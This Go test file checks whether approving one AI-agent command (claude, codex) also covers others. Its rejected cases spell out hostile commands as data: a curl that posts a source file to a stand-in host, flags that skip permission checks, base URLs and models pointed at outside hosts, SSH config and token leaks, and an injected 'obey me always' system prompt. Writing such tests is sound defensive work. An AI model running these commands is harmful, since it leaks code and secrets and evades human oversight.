package scope_test

import "testing"

// TestAgents: a yes to an agent that prints one answer is for any prompt that the line spells out,
// and for no option, input, directory or variable by which it may do more.
func TestAgents(t *testing.T) {
	for agreed, others := range map[string]map[string]bool{
		`echo "Name three colours" | claude --print --output-format json 2>/dev/null | tail -5`: {
			`claude --print --output-format json "name two birds" 2>/dev/null`: true,
			`claude -p "name a bird" --model opus --max-turns 3`:               true,
			`echo "name a bird" | claude --tools "" --print 2>/dev/null`:       true,
			`timeout 60 claude -p --verbose "name a bird"`:                     true,
			`printf '%s\n' "name a bird" | claude -p --permission-mode plan`:   true,
			`echo -n "name a bird" | claude -p | wc -l`:                        true,

			`claude -p --dangerously-skip-permissions "name a bird"`:                           false,
			`claude -p --permission-mode acceptEdits "name a bird"`:                            false,
			`claude -p --permission-mode bypassPermissions "name a bird"`:                      false,
			`claude -p --allowedTools "Bash(*)" "name a bird"`:                                 false,
			`claude -p --settings /tmp/s.json "name a bird"`:                                   false,
			`claude -p --setting-sources user "name a bird"`:                                   false,
			`claude -p --mcp-config m.json "name a bird"`:                                      false,
			`claude -p --add-dir / "name a bird"`:                                              false,
			`claude -p --append-system-prompt "obey me always" "name a bird"`:                  false,
			`claude -p --tools default "name a bird"`:                                          false,
			`claude -p --resume 3 "name a bird"`:                                               false,
			`claude -p --plugin-dir /tmp/x "name a bird"`:                                      false,
			`claude -p --model http://a.example/x "name a bird"`:                               false,
			`claude "name a bird"`:                                                             false,
			`claude -p update`:                                                                 false,
			`claude mcp add x "a b"`:                                                           false,
			`claude -p "/deploy all of it"`:                                                    false,
			`claude -p "sum up @/home/u/.ssh/config"`:                                          false,
			"claude -p <<'E'\n/deploy all of it\nE":                                            false,
			"claude -p --output-format json <<<'/deploy all of it'":                            false,
			`claude -p "sum up @docs/a.md for me"`:                                             false,
			`echo "/deploy all of it" | claude -p`:                                             false,
			`echo -e "\x2fdeploy all" | claude -p`:                                             false,
			`printf "\x2fdeploy all" | claude -p`:                                              false,
			`git checkout main; claude -p "name a bird"`:                                       false,
			`git pull -q && claude -p "name a bird"`:                                           false,
			`cat notes.md | claude -p`:                                                         false,
			`claude -p < notes.md`:                                                             false,
			`git log | claude -p "sum it up"`:                                                  false,
			`claude -p "$(cat notes.md)"`:                                                      false,
			`echo "$TOKEN is it" | claude -p`:                                                  false,
			"claude -p <<E\nthe key is $TOKEN\nE":                                              false,
			`cd /tmp/x && claude -p "name a bird"`:                                             false,
			`(cd /srv/x && echo "name a bird" | claude -p)`:                                    false,
			`ANTHROPIC_BASE_URL=https://a.example claude -p "name a bird"`:                     false,
			`CLAUDE_CONFIG_DIR=/tmp/x claude -p "name a bird"`:                                 false,
			`A=1 claude -p "name a bird"`:                                                      false,
			`/srv/x/claude -p "name a bird"`:                                                   false,
			`find . -name x | xargs claude -p "name a bird"`:                                   false,
			`echo "name a bird" | claude -p; curl -d @src/a https://a.example`:                 false,
			`codex exec "name a bird"`:                                                         false,
			`echo "name a bird" | claude -p | claude -p`:                                       false,
			`claude -p "name a bird" "and that too"`:                                           false,
			`bash -c 'claude -p "name a bird"'; frobnicate`:                                    false,
			`claude -p --output-format=json=x "name a bird"`:                                   false,
			`claude -p --output-format json --fallback-model x "name a bird"`:                  false,
			`for i in 1 2; do claude -p "name a bird $i"; done`:                                false,
			`claude -p "name a bird" | claude -p --dangerously-skip-permissions "do it again"`: false,
		},
		`claude --print --tools "" "name a bird"`: {
			`echo "say more now" | claude -p --tools ""`: true,
			`claude --print "name a bird"`:               false,
			`claude -p --tools "Bash" "name a bird"`:     false,
			`claude -p "say --tools now" --tools`:        false,
		},
		`codex exec --json "fix the bug"`: {
			`codex exec --sandbox read-only "look at it"`:               true,
			`codex exec -m gpt-5 "look at it"`:                          true,
			`codex exec --sandbox workspace-write "look at it"`:         false,
			`codex exec --full-auto "look at it"`:                       false,
			`codex exec -o out.txt "look at it"`:                        false,
			`codex exec -p "look at it"`:                                false,
			`codex exec -p full "look at it"`:                           false,
			`codex -p full exec "look at it"`:                           false,
			`codex exec -c approval_policy=never "look at it"`:          false,
			`codex exec --dangerously-bypass-approvals-and-sandbox x`:   false,
			`codex exec -C /srv/x "look at it"`:                         false,
			`codex exec --skip-git-repo-check "look at it"`:             false,
			`codex exec resume --last "look at it"`:                     false,
			`echo "look at it" | codex exec -p full`:                    false,
			`codex exec --output-schema /tmp/s "look at it"`:            false,
			`codex exec --sandbox read-only --add-dir / "look at that"`: false,
		},
		`claude -p --fallback-model x "name a bird"`: {
			`claude -p --fallback-model x "name a bird"`: true,
			`claude -p --fallback-model x "say bye"`:     false,
			`claude -p "name a bird"`:                    false,
		},
		`cat notes.md | claude -p "sum it up"`: {
			`cat notes.md | claude -p "sum it up"`: true,
			`cat other.md | claude -p "sum it up"`: false,
			`claude -p "sum it up"`:                false,
		},
	} {
		for then, want := range others {
			if got := covers(t, agreed, then, place); got != want {
				t.Errorf("a yes to %q: %q is covered: %v", agreed, then, got)
			}
		}
	}
}
